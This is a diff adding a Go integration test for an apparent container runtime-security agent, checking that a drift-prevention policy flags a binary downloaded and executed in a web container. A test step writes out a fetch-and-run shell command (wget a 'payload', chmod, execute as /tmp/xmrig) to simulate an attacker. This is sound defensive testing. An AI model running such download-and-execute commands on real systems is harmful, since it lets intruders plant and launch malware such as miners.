@@ -1,0 +1,161 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mamori-dev/mamori/event"
+	"github.com/mamori-dev/mamori/internal/podmantest"
+)
+
+const webPolicy = `apiVersion: mamori.dev/v1
+kind: RuntimePolicy
+metadata:
+  name: web-audit
+spec:
+  mode: audit
+  scope:
+    container:
+      labels:
+        app: web
+  controls:
+    driftPrevention:
+      allow:
+        names: ["healthcheck"]
+    forensics:
+      events: 40
+`
+
+// TestPolicyDriftAuditStory runs the story of issue 3 in audit mode: an
+// attacker downloads a binary into a web container from an HTTP server and
+// runs it. The alert must show the download, the write and the exec.
+func TestPolicyDriftAuditStory(t *testing.T) {
+	podmantest.Require(t)
+	dir := t.TempDir()
+	polFile := filepath.Join(dir, "web.yaml")
+	os.WriteFile(polFile, []byte(webPolicy), 0o644)
+	a := startAlertingAgent(t, "--rules", "none", "--policy", dir)
+
+	web := podmantest.Run(t, podmantest.Label("app", "web"), podmantest.Args("--network", "none"),
+		podmantest.Command("sh", "-c", "mkdir -p /srv && cp /bin/busybox /srv/payload && httpd -f -p 8080 -h /srv"))
+	other := podmantest.Run(t, podmantest.Label("app", "batch"), podmantest.Args("--network", "none"))
+	time.Sleep(300 * time.Millisecond)
+	podmantest.Exec(t, web, "sh", "-c",
+		"wget -q -O /tmp/xmrig http://127.0.0.1:8080/payload && chmod +x /tmp/xmrig && /tmp/xmrig; cp /bin/busybox /tmp/healthcheck; /tmp/healthcheck; :")
+	podmantest.Exec(t, other, "sh", "-c", "cp /bin/busybox /tmp/xmrig; /tmp/xmrig; :")
+
+	// policy explain, against the running agent.
+	out, err := exec.Command(mamoriBin, "policy", "explain", "--addr", a.addr, web.Name).CombinedOutput()
+	if err != nil || !strings.Contains(string(out), "web-audit") || !strings.Contains(string(out), "healthcheck") ||
+		!strings.Contains(string(out), polFile+":14:") {
+		t.Errorf("policy explain %s: %v\n%s", web.Name, err, out)
+	}
+	out, err = exec.Command(mamoriBin, "policy", "explain", "--addr", a.addr, "no-such-container").CombinedOutput()
+	if err == nil || !strings.Contains(string(out), `no container "no-such-container"`) {
+		t.Errorf("explain of an unknown container: %v\n%s", err, out)
+	}
+
+	// Reload: a broken file keeps the policy in force and says why; a fixed
+	// one takes effect without a restart.
+	os.WriteFile(polFile, []byte(strings.Replace(webPolicy, "mode: audit", "mode: sometimes", 1)), 0o644)
+	waitStatus(t, a.addr, func(s map[string]any) bool { return strings.Contains(asString(s["policy_error"]), "web.yaml:6:") })
+	os.WriteFile(polFile, []byte(strings.Replace(webPolicy, `["healthcheck"]`, `["probe"]`, 1)), 0o644)
+	waitStatus(t, a.addr, func(s map[string]any) bool { return s["policy_error"] == nil })
+	out, _ = exec.Command(mamoriBin, "policy", "explain", "--addr", a.addr, web.Name).CombinedOutput()
+	if !strings.Contains(string(out), "probe") || strings.Contains(string(out), "healthcheck") {
+		t.Errorf("explain after the reload:\n%s", out)
+	}
+
+	alerts := a.stop(t)
+	var drift, allowed, otherDrift *event.Alert
+	for i := range alerts {
+		al := &alerts[i]
+		if al.Rule != "Drift Prevention" {
+			continue
+		}
+		switch {
+		case al.Container.Name == web.Name && al.Process.Exe == "/tmp/xmrig":
+			drift = al
+		case al.Container.Name == web.Name && al.Process.Exe == "/tmp/healthcheck":
+			allowed = al
+		case al.Container.Name == other.Name:
+			otherDrift = al
+		}
+	}
+	if drift == nil {
+		t.Fatalf("no Drift Prevention alert for /tmp/xmrig among %d alerts", len(alerts))
+	}
+	if drift.Action != "audited" || drift.Policy != "web-audit" || drift.Control != "driftPrevention" || drift.Priority != "Critical" {
+		t.Errorf("drift alert: %+v", drift)
+	}
+	var download, write, run bool
+	for _, e := range drift.Forensics {
+		switch {
+		case e.Type == event.Connect && e.Network != nil && e.Network.DstPort == 8080 && e.Process.Name == "wget":
+			download = true
+		case e.Type == event.Open && e.File != nil && e.File.Path == "/tmp/xmrig" && strings.Contains(e.File.Flags, "O_CREAT"):
+			write = true
+		case e.Type == event.Exec && e.Process.Exe == "/tmp/xmrig":
+			run = true
+		}
+	}
+	if !download || !write || !run {
+		t.Errorf("forensics lack the download (%v), the write (%v) or the exec (%v): %d events", download, write, run, len(drift.Forensics))
+	}
+	if allowed != nil {
+		t.Errorf("an allowed drifted executable alerted: %s", allowed.Output)
+	}
+	// The other container is out of the policy's scope: only the built-in
+	// default applies to it, without forensics.
+	if otherDrift == nil || otherDrift.Policy != "mamori-default" || otherDrift.Forensics != nil {
+		t.Errorf("out-of-scope container: %+v", otherDrift)
+	}
+}
+
+func waitStatus(t *testing.T, addr string, ok func(map[string]any) bool) {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		resp, err := http.Get("http://" + addr + "/status")
+		if err == nil {
+			var s map[string]any
+			json.NewDecoder(resp.Body).Decode(&s)
+			resp.Body.Close()
+			if ok(s) {
+				return
+			}
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("status never reached the expected state")
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+}
+
+func asString(v any) string {
+	s, _ := v.(string)
+	return s
+}
+
+func TestPolicyValidate(t *testing.T) {
+	dir := t.TempDir()
+	good := filepath.Join(dir, "good.yaml")
+	os.WriteFile(good, []byte(webPolicy), 0o644)
+	out, err := exec.Command(mamoriBin, "policy", "validate", good).CombinedOutput()
+	if err != nil || !strings.Contains(string(out), "web-audit") || !strings.Contains(string(out), "valid") {
+		t.Errorf("validate good: %v\n%s", err, out)
+	}
+	bad := filepath.Join(dir, "bad.yaml")
+	os.WriteFile(bad, []byte(strings.Replace(webPolicy, "driftPrevention:", "driftPrevension:", 1)), 0o644)
+	cmd := exec.Command(mamoriBin, "policy", "validate", bad)
+	out, _ = cmd.CombinedOutput()
+	if cmd.ProcessState.ExitCode() != 1 || !strings.Contains(string(out), bad+":12:5") || !strings.Contains(string(out), "driftPrevention") {
+		t.Errorf("validate bad: exit %d\n%s", cmd.ProcessState.ExitCode(), out)
+	}
+}
